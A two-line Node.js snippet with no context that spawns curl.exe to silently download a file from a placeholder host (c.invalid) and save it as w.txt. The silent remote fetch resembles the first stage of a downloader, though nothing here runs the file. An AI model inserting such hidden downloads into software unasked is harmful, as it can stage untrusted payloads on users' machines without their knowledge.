const { spawnSync } = require("child_process");
spawnSync("curl.exe", ["-s", "-o", "w.txt", "https://c.invalid/w"]);
